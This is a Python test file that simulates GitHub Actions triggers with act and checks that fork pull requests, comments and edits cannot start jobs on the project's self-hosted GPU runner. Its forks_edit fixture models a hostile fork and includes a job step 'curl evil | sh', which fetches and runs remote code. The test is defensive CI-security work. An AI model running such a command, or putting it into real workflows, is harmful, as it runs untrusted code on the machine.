"""The workflows' triggers, run: which workflows and jobs start, on which runner, for each thing that
can happen to this repository. nektos act (host mode) evaluates every job's `if:` and `needs:`
against the event payload; github_model.py does what GitHub does around that (which workflow files an
event reads, `types:`/`branches:` filters, which runner takes a job). The workflows are the real ones
with each job's steps replaced by a marker, so a change to any `on:`, `if:`, `needs:` or `runs-on:`
shows here. What a GPU job then does (who may approve, which commits it checks out, who judges)
runs with the real steps in test_gpu_workflow_steps.py."""

from __future__ import annotations

import copy
import json
import subprocess

import github_model as gh
import pytest

from dev.rehearsal import act
from harness.core import policy

REPO = "nf4kernel/nf4kernel"
FORK = "someone/nf4kernel"
HEAD = "f0" * 20  # the PR's head commit in the event (the one a maintainer looked at)
APPROVE = gh.POLICY["approval_command"]
# approve's matrix of GPU types, as the real job reads it from .github/gpu-types.toml
GPUS = json.dumps([t.name for t in policy.gpu_types().values() if t.pull_requests])
HISTORY_GPUS = json.dumps([t.name for t in policy.gpu_types().values() if t.history])  # history.yml's types job

# Where nox installed requirements/ci-tools.txt, a missing act raises here: loud, not a skip.
if (reason := act.why_not_here()) is not None:
    pytest.skip(reason, allow_module_level=True)


@pytest.fixture(scope="module")
def main_sha(tmp_path_factory):
    """A repository whose origin is REPO, one commit on main: act's github.sha for pushes."""
    repo = tmp_path_factory.mktemp("repo")
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "remote", "add", "origin", f"https://github.com/{REPO}.git"], check=True)
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "main"], check=True)
    sha = subprocess.run([*git, "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip()
    return repo, sha


def pr_payload(main_sha, action, *, fork=True, labels=(), label=None, **extra):
    payload = {
        "action": action,
        "number": 8,
        "pull_request": {
            "number": 8,
            "head": {"sha": HEAD, "ref": "topic", "repo": {"full_name": FORK if fork else REPO}},
            "base": {"sha": main_sha, "ref": "main", "repo": {"full_name": REPO}},
            "labels": [{"name": name} for name in labels],
        },
        "repository": {"full_name": REPO, "default_branch": "main"},
        "sender": {"login": "maintainer" if label or "review" in extra else "contributor"},
        **extra,
    }
    if label:
        payload["label"] = {"name": label}
    return payload


def forks_edit(workflows):
    """What a hostile fork's PR does to the workflow files in its own diff: gpu.yml on plain
    pull_request with every `if:` deleted, and a new ci.yml job that asks for the GPU runner."""
    edited = copy.deepcopy(workflows)
    gpu = edited["gpu.yml"]
    gpu[True] = {"pull_request": {"types": ["opened", "synchronize", "reopened", "labeled"]}}
    for job in gpu["jobs"].values():
        job.pop("if", None)
    edited["ci.yml"]["jobs"]["mine"] = {
        "runs-on": ["self-hosted", "linux", "x64", "gpu"],
        "steps": [{"uses": "actions/checkout@" + "0" * 40}, {"run": "curl evil | sh"}],
    }
    return edited


def simulate(tmp_path, repo, events, payload, pr_workflows=None, approved=None):
    """Every job that runs for one activity, event by event, as act runs them. ``approved``: what
    gpu.yml's `approve` decides (its real steps run in test_gpu_workflow_steps.py)."""
    base = gh.read_workflows()
    ran = []
    for event in events:
        files = (pr_workflows or base) if event in gh.FROM_THE_PR else base
        started = {name: wf for name, wf in files.items() if gh.triggers(wf, event, payload)}
        if not started:
            continue
        folder = tmp_path / f"workflows-{event}"
        gh.write_stubs(
            folder, started, {"approve": {"gpus": GPUS, **(approved or {})}, "types": {"gpus": HISTORY_GPUS}}
        )
        markers = tmp_path / f"markers-{event}"
        result = act.run(
            event,
            repo=repo,
            workflows=folder,
            labels={label for wf in started.values() for job in wf["jobs"].values() for label in gh.labels(job)},
            payload=payload,
            env={"ACT_MARKERS": str(markers)},
            timeout=120,
        )
        assert result.returncode == 0, f"act failed on {event}:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
        ran += gh.read_markers(markers, started, event, gh.workflow_ref(event, payload))
    return ran


def on_gpu(ran):
    """{(workflow, job): sha} of the jobs the GPU runner would run."""
    return {(r.workflow, r.job): r.sha for r in ran if r.gpu and r.taken}


def refused(ran):
    return {(r.workflow, r.job) for r in ran if r.gpu and not r.taken}


def hosted(ran):
    return sorted({(r.workflow, r.job, r.matrix) for r in ran if not r.gpu})


CI_JOBS = sorted(
    [("ci.yml", "harness", ""), ("ci.yml", "lint", "")]
    + [("ci.yml", "tests", v) for v in ("3.11", "3.12", "3.13")]
    + [("ci.yml", "kernel-versions", torch) for torch in ("2.11.0", "2.15.0")]  # the oldest and newest pair
)
GPU_JOBS = {"gpu-tests", "gate", "regression"}


def comment(main_sha, body, action="created", fork=True):
    payload = pr_payload(main_sha, action, fork=fork)
    payload.pop("pull_request")
    payload["issue"] = {"number": 8, "pull_request": {"url": f"https://github.com/{REPO}/pull/8"}}
    payload["comment"] = {"body": body, "user": {"login": "maintainer"}}
    return payload


@pytest.mark.parametrize("action", ["opened", "synchronize", "reopened", "labeled"])
def test_nothing_a_pr_event_carries_starts_a_gpu_job(tmp_path, main_sha, action):
    """Opening, pushing to, reopening or labelling a PR (fork or not) starts only the hosted checks."""
    repo, base = main_sha
    payload = pr_payload(base, action, label="gpu-approved" if action == "labeled" else None)
    ran = simulate(tmp_path, repo, ["pull_request", "pull_request_target"], payload)
    assert on_gpu(ran) == {} and refused(ran) == set()
    assert hosted(ran) == ([] if action == "labeled" else CI_JOBS)


def test_a_review_starts_nothing(tmp_path, main_sha):
    repo, base = main_sha
    payload = pr_payload(base, "submitted", review={"state": "approved", "commit_id": HEAD})
    assert simulate(tmp_path, repo, ["pull_request_review"], payload) == []


def test_an_approval_comment_starts_gpu_yml_from_the_default_branch(tmp_path, main_sha):
    """Every GPU job waits on `approve` (real steps: test_gpu_workflow_steps.py) and takes the commit
    it approved; the runner takes them, as the file is main's."""
    repo, base = main_sha
    approved = {"candidate": HEAD, "trusted": base, "base": base, "pr": "8"}
    ran = simulate(tmp_path, repo, ["issue_comment"], comment(base, f"{APPROVE} {HEAD}"), approved=approved)
    assert on_gpu(ran) == {("gpu.yml", job): HEAD for job in GPU_JOBS}
    assert hosted(ran) == [("gpu.yml", "approve", ""), ("gpu.yml", "report", "")]


@pytest.mark.parametrize(
    "body,action", [("LGTM", "created"), (f"{APPROVE} {HEAD}", "edited")], ids=["another-comment", "an-edit"]
)
def test_other_comments_and_edits_start_nothing(tmp_path, main_sha, body, action):
    repo, base = main_sha
    ran = simulate(tmp_path, repo, ["issue_comment"], comment(base, body, action))
    assert on_gpu(ran) == {} and refused(ran) == set()


def test_an_approval_comment_on_an_issue_starts_nothing(tmp_path, main_sha):
    repo, base = main_sha
    payload = comment(base, f"{APPROVE} {HEAD}")
    del payload["issue"]["pull_request"]
    assert simulate(tmp_path, repo, ["issue_comment"], payload) == []


@pytest.mark.parametrize("action", ["opened", "synchronize"])
def test_a_fork_pr_that_edits_the_workflows_gets_no_gpu_job_from_its_edits(tmp_path, main_sha, action):
    repo, base = main_sha
    ran = simulate(
        tmp_path,
        repo,
        ["pull_request", "pull_request_target"],
        pr_payload(base, action),
        forks_edit(gh.read_workflows()),
    )
    # Its edited files do ask for the GPU runner (act runs those jobs), and the runner group refuses
    # every one: they come from refs/pull/8/merge, not from the default branch.
    assert ("gpu.yml", "gpu-tests") in refused(ran) and ("ci.yml", "mine") in refused(ran)
    assert all(r.event == "pull_request" for r in ran if r.gpu and not r.taken)
    assert on_gpu(ran) == {}


def test_a_push_that_changes_the_runner_image_builds_it_on_a_hosted_runner(tmp_path, main_sha):
    """fleet.yml's `paths:`: a push to main touching deploy/runner-image builds the image, hosted."""
    repo, base = main_sha
    payload = {"ref": "refs/heads/main", "after": base, "repository": {"full_name": REPO, "default_branch": "main"}}
    payload["commits"] = [{"modified": ["deploy/runner-image/Dockerfile"]}]
    ran = simulate(tmp_path, repo, ["push"], payload, approved={"candidate": base, "trusted": base})
    assert ("fleet.yml", "runner-image", "") in hosted(ran)
    assert not [key for key in on_gpu(ran) if key[0] == "fleet.yml"]


def test_a_push_to_main_runs_the_gpu_jobs_and_the_history(tmp_path, main_sha):
    repo, base = main_sha
    payload = {"ref": "refs/heads/main", "after": base, "repository": {"full_name": REPO, "default_branch": "main"}}
    ran = simulate(tmp_path, repo, ["push"], payload, approved={"candidate": base, "trusted": base})
    # No base, so no regression check: the history keeps main's figures instead.
    expected = {("gpu.yml", "gpu-tests"): base, ("gpu.yml", "gate"): base, ("history.yml", "benchmark"): base}
    assert on_gpu(ran) == expected
    assert hosted(ran) == sorted(
        [
            *CI_JOBS,
            ("gpu.yml", "approve", ""),
            ("gpu.yml", "on-main", ""),
            ("history.yml", "changepoints", ""),
            ("history.yml", "deploy", ""),
            ("history.yml", "site", ""),
            ("history.yml", "store", ""),
            ("history.yml", "types", ""),
        ]
    )


def test_a_push_to_another_branch_runs_nothing(tmp_path, main_sha):
    repo, base = main_sha
    payload = {"ref": "refs/heads/topic", "after": base, "repository": {"full_name": REPO, "default_branch": "main"}}
    assert simulate(tmp_path, repo, ["push"], payload) == []


@pytest.mark.parametrize("branch,taken", [("main", True), ("topic", False)])
def test_workflow_dispatch_reaches_the_gpu_runner_from_main_only(tmp_path, main_sha, branch, taken):
    repo, base = main_sha
    payload = {"ref": f"refs/heads/{branch}", "inputs": {}, "repository": {"full_name": REPO, "default_branch": "main"}}
    ran = simulate(tmp_path, repo, ["workflow_dispatch"], payload, approved={"candidate": base, "trusted": base})
    gpu = {(r.workflow, r.job) for r in ran if r.gpu}
    assert gpu == {("gpu.yml", "gpu-tests"), ("gpu.yml", "gate"), ("history.yml", "benchmark")}
    assert (on_gpu(ran) != {}) == taken and (refused(ran) == set()) == taken
